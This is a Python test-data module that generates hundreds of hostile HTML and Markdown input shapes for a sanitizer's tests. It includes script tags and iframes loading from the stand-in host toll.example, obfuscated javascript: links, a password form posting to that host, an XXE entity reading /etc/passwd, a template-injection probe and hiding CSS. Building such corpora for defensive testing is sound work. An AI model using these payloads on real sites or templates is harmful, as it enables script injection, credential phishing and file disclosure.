"""Hostile words as data: pieces of a grammar, put into the contexts in which a writer could try them.

Written for this project. `SHAPES` is what the tests use: each is one string, no two are the same, and each
piece stands in a context of its own, so that what differs is the shape and not only a name.
"""

from collections.abc import Iterator, Sequence
from itertools import cycle

# Elements that run, load, send, or change the page around them.
ELEMENTS: Sequence[str] = (
    "<script>toll()</script>",
    "<script src=https://toll.example/t.js></script>",
    "<script type=module>import('https://toll.example')</script>",
    "<SCRipt\t>toll()</SCRipt\t>",
    "<scr\u0131pt>toll()</scr\u0131pt>",
    "<script/x>toll()</script/x>",
    "<script>toll()</script",
    "<script>/*</p>*/toll()</script>",
    "<<script>toll()//<</script>",
    "<s<script></script>cript>toll()</s<script></script>cript>",
    "<svg><script href=https://toll.example/t.js /></svg>",
    "<svg><foreignObject><iframe src=https://toll.example></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=toll()>#x'/></svg>",
    "<svg><set attributeName=onmouseover to=toll()>",
    "<svg><image href=https://toll.example/x.svg /></svg>",
    "<svg/><p><style><a id='</style><img src=1 onerror=toll()>'>",
    "<math href=javascript:toll()>m</math>",
    "<math><mglyph><svg><mtext><style><path id='</style><img onerror=toll() src>'>",
    "<iframe src=https://toll.example></iframe>",
    "<iframe srcdoc=&lt;script&gt;toll()&lt;/script&gt;>",
    "<frameset><frame src=https://toll.example></frameset>",
    "<object data=https://toll.example/o type=text/html></object>",
    "<object><param name=movie value=https://toll.example/o.swf></object>",
    "<embed src=https://toll.example/e>",
    "<applet code=Toll.class></applet>",
    "<portal src=https://toll.example></portal>",
    "<video autoplay src=https://toll.example/v onplay=toll()></video>",
    "<audio autoplay src=https://toll.example/a></audio>",
    "<picture><source srcset=https://toll.example/s><img></picture>",
    "<img src=https://toll.example/pixel width=1 height=1>",
    "<img srcset='https://toll.example/1 1x' sizes=1px>",
    "<img lowsrc=https://toll.example/l dynsrc=https://toll.example/d>",
    "<input type=image src=https://toll.example/i>",
    "<link rel=stylesheet href=https://toll.example/c.css>",
    "<link rel=prefetch href=https://toll.example/p>",
    "<base href=https://toll.example/>",
    "<base target=_blank>",
    "<meta http-equiv=refresh content='0;url=https://toll.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<meta name=referrer content=unsafe-url>",
    "<title>Another letter</title>",
    "<html manifest=https://toll.example/m>",
    "<body background=https://toll.example/b onpageshow=toll()>",
    "<table background=https://toll.example/b><tr><td>x</table>",
    "<marquee behavior=alternate onbounce=toll()>x</marquee>",
    "<blink>x</blink>",
    "<dialog open>Sign in again</dialog>",
    "<details open ontoggle=toll()><summary>x</summary></details>",
    "<template shadowrootmode=open><script>toll()</script></template>",
    "<slot name=x></slot>",
    "<xss-toll onclick=toll()>x</xss-toll>",
    "<noscript><img src=x onerror=toll()></noscript>",
    "<noembed><img src=x onerror=toll()></noembed>",
    "<listing>&lt;img src=x onerror=toll()&gt;</listing>",
    "<plaintext>toll()",
    "<xml id=x><a><b>&lt;script&gt;</b></a></xml>",
    "<o:p onclick=toll()>x</o:p>",
    "<v:rect><v:fill src=https://toll.example/f /></v:rect>",
    "<bgsound src=https://toll.example/b>",
    "<layer src=https://toll.example/l></layer>",
    "<isindex action=javascript:toll() type=image>",
    "<keygen autofocus onfocus=toll()>",
    "<canvas id=c></canvas>",
    "<map name=m><area href=javascript:toll() shape=default></map>",
)  # fmt: skip

# What asks a reader for something, or sends it somewhere.
FORMS: Sequence[str] = (
    "<form action=https://toll.example><input name=password type=password></form>",
    "<form id=f></form><button form=f formaction=javascript:toll()>Go on</button>",
    "<input type=submit formaction=https://toll.example value=Unsubscribe>",
    "<textarea name=t form=f></textarea>",
    "<select onchange=toll()><option>x</select>",
    "<label for=contents>Your address</label>",
    "<fieldset disabled><legend>Sign in</legend></fieldset>",
    "<output onformdata=toll()></output>",
    "<datalist id=d><option value=x></datalist>",
    "<button type=submit>Confirm your address</button>",
    "<a href=https://toll.example ping=https://toll.example/p download=x>x</a>",
    "<a href=https://x.example target=_blank rel=opener>x</a>",
)

HANDLERS: Sequence[str] = (
    "onclick", "onmouseover", "onfocus", "onerror", "onload", "onanimationstart", "onpointerrawupdate",
    "ontransitionend", "onwheel", "oncopy", "onbeforetoggle", "oncontentvisibilityautostatechange",
)  # fmt: skip
# Ways to write an attribute; `{on}` is the handler's name.
QUOTINGS: Sequence[str] = (
    "<p {on}=toll()>x</p>",
    "<p {on}='toll()'>x</p>",
    '<em {on}="toll()">x</em>',
    "<li {on}=`toll()`>x</li>",
    "<b/{on}=toll()>x</b>",
    "<a href=# {on}\n=\ntoll()>x</a>",
    "<h2\x0c{on}=toll()>x</h2>",
    "<td title='>' {on}=toll()>x</td>",
    "<img src=x {on}=&#116;oll()>",
    "<blockquote a=\"'\" {on}=toll() b='\"'>x</blockquote>",
    "<code {on}==toll()>x</code>",
    "<hr {on}>",
)

# Addresses that no link and no picture may have.
ADDRESSES: Sequence[str] = (
    "javascript:toll()",
    "jAvAsCrIpT:toll()",
    "javascript&#58;toll()",
    "javascript&colon;toll()",
    "javascript&#x3a;toll()",
    "&#0000106avascript:toll()",
    "java&Tab;script:toll()",
    "java&NewLine;script:toll()",
    "\u0001javascript:toll()",
    "\u00a0javascript:toll()",
    "\ufeffjavascript:toll()",
    "java\u200dscript:toll()",
    "javascript\uff1atoll()",
    "javascript\u2236toll()",
    "javascript%3Atoll()",
    "//javascript:toll()",
    "/\\toll.example",
    "/\t/toll.example",
    "\\/toll.example",
    "///toll.example",
    "http:/\\toll.example",
    "https:toll.example",
    "https://",
    "https:///x",
    "http:javascript:toll()",
    "javascript:https://x.example/",
    "vbscript:toll",
    "livescript:toll()",
    "data:text/html;charset=utf-8,<script>toll()</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:,x",
    "DATA:text/css,p{display:none}",
    "blob:null/1",
    "about:blank",
    "file:///C:/x",
    "ftp://toll.example/x",
    "ws://toll.example",
    "cid:part1@x.example",
    "mid:x@x.example",
    "tel:+441632960999",
    "sms:+441632960143",
    "intent://x#Intent;end",
    "ms-word:ofe|u|https://toll.example",
    "chrome://settings",
    "x-toll:go",
    "mailto:",
    "mailto:a b@x.example",
    "?next=//toll.example",
    "toll.html",
    "./toll",
    "https://toll.example/\u202etxt.exe",
)  # fmt: skip
# How an address is carried; `{to}` is the address.
CARRIERS: Sequence[str] = (
    "[the tides]({to})",
    "![the tides]({to})",
    "[the tides](<{to}>)",
    '[the tides]({to} "at the quay")',
    "[![the tides]({to})](https://x.example)",
    "<{to}>",
    "[the tides][t]\n\n[t]: {to}",
    "<a href={to}>the tides</a>",
)

# Style that loads, hides, covers or imitates.
STYLES: Sequence[str] = (
    "background:url(https://toll.example/b)",
    "background-image:image-set('https://toll.example/b' 1x)",
    "list-style-image:url(https://toll.example/l)",
    "border-image:url(https://toll.example/b) 1",
    "cursor:url(https://toll.example/c),auto",
    "content:url(https://toll.example/c)",
    "filter:url(https://toll.example/f#x)",
    "width:expression(toll())",
    "behavior:url(https://toll.example/b.htc)",
    "-moz-binding:url(https://toll.example/x)",
    "background:\\75rl(https://toll.example/b)",
    "display:none",
    "display:none!important",
    "visibility:hidden",
    "opacity:0",
    "font-size:0",
    "line-height:0;height:0;overflow:hidden",
    "color:#ffffff;background:#ffffff",
    "position:fixed;top:0;left:0;width:100%;height:100%",
    "position:absolute;left:-9999px",
    "text-indent:-999px",
    "transform:scale(0)",
    "clip-path:inset(100%)",
    "mso-hide:all",
    "float:left;margin-top:-400px",
    "z-index:99999",
)
STYLED: Sequence[str] = (
    '<p style="{css}">x</p>',
    "<span style='{css}'>x</span>",
    "<style>p{{{css}}}</style>",
    "<div style={css}>x</div>",
    'x {{: style="{css}" }}',
    '<font style="{css}" color=white size=0>x</font>',
    "<style media=all>@import 'https://toll.example';*{{{css}}}</style>",
)

# What would end, open or forge the page around the words.
BREAKOUTS: Sequence[str] = (
    "</td></tr></table></td></tr></table>",
    "</main></body></html>",
    "</section></article><main>",
    "</title></head><body>",
    "</style><style>*{display:none}",
    "</textarea></select></option>",
    "<!-- and all the rest",
    "<!--><img src=x onerror=toll()>-->",
    "--><img src=x onerror=toll()>",
    "--!><b>x</b>",
    "<!--[if mso]><script>toll()</script><![endif]-->",
    "<![endif]--><b>x</b><!--[if !mso]>",
    "<![CDATA[<b>x</b>]]>",
    "]]><b>x</b>",
    "<!DOCTYPE html SYSTEM 'https://toll.example/x.dtd'>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<?php toll() ?>",
    "<%= toll() %>",
    "<?xml-stylesheet href=https://toll.example/x.xsl?>",
    "{{ cycler.__init__.__globals__ }}",
    "{% include 'email/issue.html' %}",
    "{# a comment #}",
    "${toll()} #{toll()} <#assign x=1>",
    "%%unsubscribe%% *|UNSUB|*",
    "' onmouseover='toll()",
    '" onmouseover="toll()',
    '"><b>x</b>',
    "'/><b>x</b>",
    "` onmouseover=toll() `",
    "\\\" onmouseover=toll() \\\"",
    "&quot;&gt;&lt;b&gt;x",
    "&amp;lt;script&amp;gt;toll()",
    "&#60script&#62toll()&#60/script&#62",
    "&LT;script&GT;",
    "&#x0;&#0;&#xD800;",
    "\uff1cscript\uff1etoll()\uff1c/script\uff1e",
    "\u02c2script\u02c3 \u276eb\u276f",
    "+ADw-script+AD4-toll()+ADw-/script+AD4-",
    "%3Cscript%3Etoll()%3C/script%3E",
    "\\x3cscript\\x3e \\u003cb\\u003e",
    "<\u200bscript>toll()</script>",
    "<scr\u00adipt>toll()</scr\u00adipt>",
    "<\x00b>x</\x00b>",
    "\x1b[2J\x1b]8;;https://toll.example\x07x",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "\x9b31m \x85 \u2028 \u2029",
    "\udcff lone \ud800",
)  # fmt: skip

# Names by which a page's own places, styles and scripts find each other.
NAMES: Sequence[str] = (
    "<a id=contents name=main>x</a>",
    "<p id=unsubscribe class='button way press'>x</p>",
    "<img name=cookie id=getElementById>",
    "<a id=location href=https://toll.example>x</a>",
    '<div class="visually-hidden">x</div>',
    "<p data-draft=x data-preview=/x aria-hidden=true role=alert>x</p>",
    "<p hidden inert contenteditable popover accesskey=s tabindex=1>x</p>",
    "<p lang=xx dir=rtl translate=no itemprop=x slot=x is=x>x</p>",
    "## The tides {#contents .button onclick=toll()}",
    "the tides {: #main .visually-hidden onclick=toll() }",
    "[^1]\n\n[^1]: <b>a note</b>",
    "*[tides]: <b>an abbreviation</b>",
    "[[toc]] [TOC]",
    "!!! danger onclick\n    x",
    "::: {.button onclick=toll()}\nx\n:::",
    "```html onclick=toll()\n<script>toll()</script>\n```",
    "~~~ {.raw_html}\n<script>toll()</script>\n~~~",
    "$$\\href{javascript:toll()}{x}$$",
    ":smile: ==mark== ~~gone~~ ^up^",
    '<https://x.example/"onmouseover="toll()>',
)

# Where in a text of Markdown a piece may stand; `{}` is the piece.
CONTEXTS: Sequence[str] = (
    "{}",
    "before {} after",
    "- {}",
    "1. {}\n2. x",
    "> {}",
    "> - > {}",
    "**{}**",
    "_{}_",
    "[{}]",
    "## {}",
    "`{}`",
    "    {}",
    "[{}](https://x.example)",
    '[x](https://x.example "{}")',
    "[x](https://x.example '{}')",
    "![{}](https://x.example/p.png)",
    '![x](https://x.example/p.png "{}")',
    "[x](https://x.example/?q={})",
    "| {} | b |\n|---|---|\n| a | b |",
    "| a | b |\n|:-:|--:|\n| {} | {} |",
    "**{}:** one\n\n**B:** two",
    "**A:** {}\n\n**B:** {}",
    "a  \n{}\\\nb",
    "x\n\n---\n\n{}",
    "- **{}** {} [tag {}]",
    "> {}\n>\n> [{}](https://x.example)",
)


def _in_contexts(pieces: Sequence[str]) -> Iterator[str]:
    """Each piece in the next context, so that every context is used and no two shapes are alike."""
    for piece, context in zip(pieces, cycle(CONTEXTS)):
        yield context.replace("{}", piece)


def _crossed(pieces: Sequence[str], name: str, frames: Sequence[str]) -> Iterator[str]:
    """Each piece in the next of the frames that are made for its sort."""
    for piece, frame in zip(pieces, cycle(frames)):
        yield frame.replace("{{", "{").replace("}}", "}").replace(f"{{{name}}}", piece)


def _handlers() -> Iterator[str]:
    for turn in range(3):
        turned = [*HANDLERS[turn:], *HANDLERS[:turn]]
        yield from (quoting.replace("{on}", on) for on, quoting in zip(turned, QUOTINGS, strict=True))


FAMILIES = {
    "elements": (*ELEMENTS, *_in_contexts(ELEMENTS[::-1])),
    "forms": (*FORMS, *_in_contexts(FORMS)),
    "handlers": tuple(_handlers()),
    "addresses": (*_crossed(ADDRESSES, "to", CARRIERS), *_crossed(ADDRESSES[::-1], "to", CARRIERS)),
    "styles": (*_crossed(STYLES, "css", STYLED), *_crossed(STYLES[::-1], "css", STYLED)),
    "breakouts": (*BREAKOUTS, *_in_contexts(BREAKOUTS)),
    "names": NAMES,
}
"""Every family by its name; the ways of attack are told apart in reports by it."""

SHAPES: tuple[str, ...] = tuple(dict.fromkeys(shape for family in FAMILIES.values() for shape in family))
